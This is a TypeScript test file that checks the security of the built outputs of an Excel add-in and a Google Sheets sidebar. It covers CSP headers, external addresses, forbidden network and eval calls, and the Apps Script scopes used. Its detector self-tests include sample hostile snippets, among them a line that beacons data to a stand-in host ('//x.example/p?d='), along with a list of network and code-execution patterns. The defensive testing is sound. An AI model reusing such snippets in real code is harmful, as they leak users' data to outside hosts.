/**
 * Nothing let out: the task pane and the sidebar talk to nobody but their host. The task pane
 * carries a Content-Security-Policy (Office serves it as a page of its own); the sidebar cannot, as
 * HtmlService ignores the meta tags written in the file, so its pages load nothing from another
 * site. The built scripts contain none of the browser's ways to reach the network or to run text as
 * code, and the Apps Script bundle names no service beyond the two scopes it asks for. Everything is
 * checked on the real build output, built once here.
 */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { build as buildAddin } from '../../build/addin.js';
import { build as buildSheets } from '../../build/sheets.js';

let dir: string;
const files: Record<string, string> = {};

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'alliance-security-'));
  const addin = join(dir, 'addin');
  const sheets = join(dir, 'apps-script');
  await buildAddin({ outDir: addin, testOutDir: null });
  const addon = join(dir, 'apps-script-addon');
  await buildSheets({ outDir: sheets });
  await buildSheets({ variant: 'addon', outDir: addon });
  for (const name of [
    'taskpane.html',
    'taskpane.js',
    'taskpane-en.js',
    'functions.js',
    'manifest.xml',
    'aide.html',
  ])
    files[name] = await readFile(join(addin, name), 'utf8');
  for (const name of ['Code.js', 'Sidebar.html', 'appsscript.json'])
    files[name] = await readFile(join(sheets, name), 'utf8');
  files['addon/Code.js'] = await readFile(join(addon, 'Code.js'), 'utf8');
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

// ————————————————————————————————————————————— helpers

/** The page's CSP `<meta>`, as directive → sources (throws when the page has none or two). */
function cspOf(html: string): Map<string, string[]> {
  const metas = [
    ...html.matchAll(/<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]*)"\s*\/?>/gi),
  ];
  if (metas.length !== 1) throw new Error(`expected one CSP <meta>, found ${metas.length}`);
  const policy = new Map<string, string[]>();
  for (const directive of metas[0][1].split(';')) {
    const [name, ...sources] = directive.trim().split(/\s+/);
    if (name) policy.set(name.toLowerCase(), sources);
  }
  return policy;
}

/** The CSP must come before any script or stylesheet of the page, or it would not cover them. */
function cspComesFirst(html: string): boolean {
  const csp = html.search(/<meta\s+http-equiv="Content-Security-Policy"/i);
  const firstResource = html.search(/<script|<link|<style/i);
  return csp >= 0 && (firstResource < 0 || csp < firstResource);
}

/** The code written inside the page's `<script>` elements (empty for `<script src>`). */
function inlineScripts(html: string): string[] {
  return [...html.matchAll(/<script(?:\s[^>]*)?>([\s\S]*?)<\/script>/gi)]
    .map((m) => m[1])
    .filter((code) => code.trim() !== '');
}

/**
 * What a script needs to reach the network or run text as code. The `Function` entry catches the
 * constructor under any alias (`const F = Function; new F('')`), the way zod's JIT probe spells it.
 */
const FORBIDDEN: { name: string; pattern: RegExp }[] = [
  { name: 'fetch(', pattern: /(?<![\w$])fetch\s*\(/ },
  { name: 'XMLHttpRequest', pattern: /XMLHttpRequest/ },
  { name: 'eval', pattern: /(?<![\w$.])eval(?![\w$])/ },
  { name: 'new Function / Function constructor', pattern: /(?<![\w$.])Function(?![\w$])/ },
  { name: 'WebSocket', pattern: /WebSocket/ },
  { name: 'EventSource', pattern: /EventSource/ },
  { name: 'importScripts', pattern: /importScripts/ },
  { name: 'sendBeacon', pattern: /sendBeacon/ },
  { name: 'import(', pattern: /(?<![\w$.])import\s*\(/ },
  { name: 'setTimeout/setInterval with a string', pattern: /(?<![\w$])set(?:Timeout|Interval)\s*\(\s*['"`]/ },
  { name: 'protocol-relative address', pattern: /['"`]\/\/[\w-]+(?:\.[\w-]+)+/ },
  { name: 'RTCPeerConnection', pattern: /RTCPeerConnection/ },
];

function forbiddenIn(code: string): string[] {
  return FORBIDDEN.filter(({ pattern }) => pattern.test(code)).map(({ name }) => name);
}

/**
 * Every address a page's markup or styles load or send to: src, href, srcset, action, formaction,
 * poster and data attributes, CSS url() and @import. Inline scripts are left out (their addresses are
 * what `urlsIn` and FORBIDDEN look for).
 */
function resourceAddresses(html: string): string[] {
  const markup = html.replace(/<script(?:\s[^>]*)?>[\s\S]*?<\/script>/gi, '<script></script>');
  const attributes = [
    ...markup.matchAll(
      /\s(?:src|href|srcset|action|formaction|poster|data)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))/gi,
    ),
  ].map((m) => m[1] ?? m[2] ?? m[3]);
  const styles = [...markup.matchAll(/url\(\s*["']?([^"')]*)["']?\s*\)|@import\s+["']([^"']+)["']/gi)].map(
    (m) => m[1] ?? m[2],
  );
  return [...attributes, ...styles];
}

/** An address that leaves the page's own site: any scheme but data:, or protocol-relative. */
function leavesSite(address: string): boolean {
  const trimmed = address.trim();
  return /^(?:[a-z][a-z0-9+.-]*:|\/\/|\\\\)/i.test(trimmed) && !/^data:/i.test(trimmed);
}

/** Every http(s) address written in a file. */
function urlsIn(text: string): string[] {
  return [...text.matchAll(/https?:\/\/[^\s"'`)<>\\]+/g)].map((m) => m[0]);
}

// ————————————————————————————————————————————— pages

describe('Excel task pane page', () => {
  it('loads scripts only from its own site and Office’s CDN, and connects nowhere else', () => {
    const html = files['taskpane.html'];
    const csp = cspOf(html);
    expect(cspComesFirst(html)).toBe(true);
    expect(csp.get('default-src')).toEqual(["'self'"]);
    expect(csp.get('script-src')).toEqual(["'self'", 'https://appsforoffice.microsoft.com']);
    expect(csp.get('connect-src')).toEqual(["'self'"]);
    expect(csp.get('object-src')).toEqual(["'none'"]);
    // No way around the list: no inline code, no eval, no wildcard.
    for (const sources of csp.values()) {
      expect(sources).not.toContain("'unsafe-eval'");
      expect(sources).not.toContain("'unsafe-inline'");
      expect(sources.some((s) => s.includes('*'))).toBe(false);
    }
  });

  it('includes no inline script, and every script it loads is allowed by its policy', () => {
    const html = files['taskpane.html'];
    expect(inlineScripts(html)).toEqual([]);
    const sources = [...html.matchAll(/<script[^>]*\ssrc="([^"]+)"/gi)].map((m) => m[1]);
    expect(sources).toEqual([
      'https://appsforoffice.microsoft.com/lib/1/hosted/office.js',
      'functions.js',
      'taskpane.js',
    ]);
  });

  it('the help page allows nothing but itself', () => {
    expect(cspOf(files['aide.html']).get('default-src')).toEqual(["'self'"]);
    expect(files['aide.html']).not.toMatch(/<script/i);
  });
});

describe('Google Sheets sidebar page', () => {
  it('claims no policy Apps Script would drop: no http-equiv meta tag', () => {
    // HtmlService ignores the meta tags written in the file, all but those addMetaTag accepts
    // (developers.google.com/apps-script/reference/html/html-output#addMetaTag(String,String)):
    // a CSP there would protect nothing while saying it does.
    expect(files['Sidebar.html']).not.toMatch(/<meta\s[^>]*http-equiv/i);
  });

  it('loads nothing from elsewhere: no script, stylesheet, image, frame or address of another site', () => {
    const html = files['Sidebar.html'];
    expect(html).not.toMatch(/<script[^>]*\ssrc=/i);
    expect(html).not.toMatch(/<link[^>]*stylesheet/i);
    expect(html).not.toMatch(/<(?:iframe|frame|object|embed)\b/i);
    expect(resourceAddresses(html).filter(leavesSite)).toEqual([]);
    expect(urlsIn(html)).toEqual([]);
  });

  it('the address detector finds what leaves the site in markup and styles, and leaves local ones alone', () => {
    const page = `<img src="https://x.example/p.png"><link rel="icon" href=//x.example/i.ico>
      <img srcset='http://x.example/a 2x'><form action="https://x.example/f"></form>
      <style>a{background:url("//x.example/b")} @import "https://x.example/c.css";</style>
      <img src="data:image/png;base64,AAAA"><a href="#top"></a><img src="logo.png">`;
    expect(resourceAddresses(page).filter(leavesSite)).toEqual([
      'https://x.example/p.png',
      '//x.example/i.ico',
      'http://x.example/a 2x',
      'https://x.example/f',
      '//x.example/b',
      'https://x.example/c.css',
    ]);
  });
});

// ————————————————————————————————————————————— scripts

describe('built scripts', () => {
  it('the detector finds each forbidden call, aliased or not, and leaves lookalikes alone', () => {
    expect(forbiddenIn('window.fetch("https://x")')).toEqual(['fetch(']);
    expect(forbiddenIn('const F=Function;new F("")')).toEqual(['new Function / Function constructor']);
    expect(forbiddenIn('x=new Function("a","return a")')).toEqual(['new Function / Function constructor']);
    expect(forbiddenIn('(0,eval)("1")')).toEqual(['eval']);
    expect(forbiddenIn('navigator.sendBeacon(u,d)')).toEqual(['sendBeacon']);
    expect(forbiddenIn('import("https://x/y.js")')).toEqual(['import(']);
    expect(forbiddenIn('setTimeout("go()", 10); window.setInterval(`x`, 5)')).toEqual([
      'setTimeout/setInterval with a string',
    ]);
    expect(forbiddenIn('i.src="//x.example/p?d="+d')).toEqual(['protocol-relative address']);
    expect(forbiddenIn('new RTCPeerConnection({iceServers:[]})')).toEqual(['RTCPeerConnection']);
    expect(
      forbiddenIn(
        "AllianceLib.customFunction('AMOUNT',[t]); prefetch(x); o.evaluate(y); isFunction(z); setTimeout(f, 0); s='a//b'",
      ),
    ).toEqual([]);
  });

  for (const name of ['taskpane.js', 'taskpane-en.js', 'functions.js', 'Code.js', 'addon/Code.js']) {
    it(`${name} contains no network call and runs no text as code`, () => {
      expect(forbiddenIn(files[name])).toEqual([]);
      expect(urlsIn(files[name])).toEqual([]);
    });
  }

  it('the Sidebar.html script contains no network call and runs no text as code', () => {
    const script = inlineScripts(files['Sidebar.html']).join('\n;\n');
    expect(script.length).toBeGreaterThan(10_000);
    expect(forbiddenIn(script)).toEqual([]);
  });
});

// ————————————————————————————————————————————— permissions
// The scopes themselves and the add-in's ReadWriteDocument are asserted in tests/apps-script and
// tests/addin; here, what would quietly widen them.

describe('least privilege', () => {
  it('Code.js, bound or add-on, calls no Apps Script service that needs a scope beyond the current spreadsheet and its UI', () => {
    const services = [
      'UrlFetchApp',
      'DriveApp',
      'GmailApp',
      'MailApp',
      'DocumentApp',
      'SlidesApp',
      'FormApp',
      'CalendarApp',
      'ContactsApp',
      'ScriptApp',
      'SpreadsheetApp.openById',
      'SpreadsheetApp.openByUrl',
      'SpreadsheetApp.open(',
    ];
    for (const name of ['Code.js', 'addon/Code.js'])
      expect(services.filter((service) => files[name].includes(service))).toEqual([]);
  });

  it('appsscript.json publishes nothing: no web app, no execution API, no URL allow-list', () => {
    const manifest = JSON.parse(files['appsscript.json']) as Record<string, unknown>;
    for (const key of ['webapp', 'executionApi', 'urlFetchWhitelist'])
      expect(manifest).not.toHaveProperty(key);
  });

  it('the add-in manifest lets the pane navigate to no other domain', () => {
    expect(files['manifest.xml']).not.toMatch(/<AppDomains?>/);
  });
});
